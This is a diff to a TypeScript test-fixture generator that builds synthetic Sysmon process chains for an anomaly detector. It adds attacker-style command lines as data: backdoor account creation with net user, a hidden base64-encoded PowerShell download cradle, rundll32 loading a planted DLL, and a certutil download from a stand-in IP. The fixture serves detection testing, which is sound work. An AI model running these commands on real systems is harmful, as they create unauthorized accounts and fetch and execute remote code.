@@ -33,7 +33,18 @@ function guid(tag: number, n: number): string {
   return `{${tag.toString(16).padStart(8, '0')}-0000-4000-8000-${n.toString(16).padStart(12, '0')}}`;
 }
 
-const CHAIN = ['cmd.exe', 'powershell.exe', 'rundll32.exe', 'conhost.exe'];
+// What each step runs: an intruder's chain the model scores as anomalous, so the community is
+// a candidate and goes through every stage (chain rendering included), not dropped unscored.
+const CHAIN: Array<[string, (i: number) => string]> = [
+  ['cmd.exe', (i) => `cmd.exe /c whoami /all & net user admin${i % 97} /add`],
+  [
+    'powershell.exe',
+    () =>
+      'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
+  ],
+  ['rundll32.exe', (i) => `rundll32.exe C:\\Users\\Public\\s${i % 97}.dll,Start`],
+  ['certutil.exe', (i) => `certutil.exe -urlcache -split -f http://198.51.100.7/p${i % 97} p.exe`],
+];
 
 function sysmon(
   host: string,
@@ -64,12 +75,12 @@ function sysmon(
  */
 export function* deepChain(depth: number, host = DEEP_HOST): Generator<Record<string, unknown>> {
   const node = (i: number) => {
-    const name = CHAIN[i % CHAIN.length] as string;
+    const [name, cmd] = CHAIN[i % CHAIN.length] as [string, (i: number) => string];
     return {
       guid: guid(0xdee9, i),
       pid: 1000 + (i % 60_000),
       image: `C:\\Windows\\System32\\${name}`,
-      cmd: `${name} /c step ${i % 97}`,
+      cmd: cmd(i),
     };
   };
   for (let i = 1; i <= depth; i++) yield sysmon(host, T0 + i * 10, node(i), node(i - 1));
